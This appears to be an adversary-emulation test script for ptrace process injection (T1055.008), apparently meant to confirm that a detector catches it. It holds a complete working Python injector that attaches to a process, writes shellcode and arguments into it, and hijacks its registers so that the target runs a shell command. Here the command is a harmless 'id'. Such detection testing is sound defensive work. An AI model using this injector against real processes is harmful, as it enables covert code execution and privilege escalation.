# technique: T1055.008
# tactic: privilege-escalation
# name: Command run inside another process via ptrace (PTRACE_ATTACH, poke, register hijack)
# expect: detected
. "$EMULATION_LIB"
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
need python3
# The injector below knows the x86-64 register layout only.
[ "$(uname -m)" = x86_64 ] || { echo "emulation: x86_64 only" >&2; exit 97; }
# The target: a process this script started (a long-running daemon in real life).
sleep 30 &
victim=$!
trap 'kill "$victim" 2>/dev/null || true' EXIT
sleep 0.2
marker=$PWD/injected

# A small ptrace injector (what linux-inject and friends do): attach, write the arguments into the
# target's stack and a syscall instruction at its instruction pointer, point the registers at
# execve("/bin/sh", ["/bin/sh", "-c", CMD]) and detach. The target process itself then runs CMD.
cat > inject.py <<'PY'
import ctypes, os, struct, sys
pid = int(sys.argv[1]); cmd = sys.argv[2].encode()
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_POKEDATA, PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 5, 12, 13, 16, 17
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]
if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
    raise OSError(ctypes.get_errno(), "PTRACE_ATTACH")
os.waitpid(pid, 0)
regs = Regs()
libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(regs))
def poke(addr, data):
    data += b"\0" * (-len(data) % 8)
    for i in range(0, len(data), 8):
        word = struct.unpack("<Q", data[i:i + 8])[0]
        if libc.ptrace(PTRACE_POKEDATA, pid, ctypes.c_void_p(addr + i), ctypes.c_void_p(word)) != 0:
            raise OSError(ctypes.get_errno(), "PTRACE_POKEDATA")
# Strings and argv well below the stack pointer, then a syscall instruction at the current rip.
base = (regs.rsp - 8192) & ~0xf
strs = [b"/bin/sh\0", b"-c\0", cmd + b"\0"]
ptrs, blob = [], b""
for s in strs:
    ptrs.append(base + 64 + len(blob)); blob += s
poke(base, struct.pack("<4Q", *ptrs, 0))
poke(base + 64, blob)
orig = ctypes.c_ulong(libc.ptrace(1, pid, ctypes.c_void_p(regs.rip), None)).value  # PEEKTEXT
poke(regs.rip, struct.pack("<Q", (orig & ~0xffff) | 0x050f))
regs.rax, regs.orig_rax, regs.rdi, regs.rsi, regs.rdx = 59, 2**64 - 1, ptrs[0], base, 0
libc.ptrace(PTRACE_SETREGS, pid, None, ctypes.byref(regs))
libc.ptrace(PTRACE_DETACH, pid, None, None)
PY
python3 inject.py "$victim" "id > $marker"

i=0; while [ ! -s "$marker" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
kill "$victim" 2>/dev/null || true
wait "$victim" 2>/dev/null || true
grep -q 'uid=' "$marker"
